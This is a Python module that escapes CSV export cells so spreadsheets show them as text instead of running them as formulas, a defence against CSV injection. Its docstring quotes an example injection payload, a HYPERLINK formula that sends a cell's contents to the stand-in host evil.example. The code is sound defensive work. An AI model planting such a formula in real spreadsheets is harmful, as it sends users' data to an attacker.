"""Cells for CSV exports that a spreadsheet shows as text, never runs as a formula.

A prospect named `=HYPERLINK("https://evil.example?"&A1, "Click")` would otherwise become a
live formula in the rep's Excel or Google Sheets (CSV injection). OWASP's advice, followed
here: a cell that starts with = + - @, a tab or a carriage return gets a leading `'`, which
spreadsheets show as text. The csv module quotes the rest (commas, quotes, newlines).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """The value as a CSV cell's text: numbers as they are, text that could start a formula
    behind a `'`, None as empty."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return str(value)  # -3 is a number, not a formula, and must stay one
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
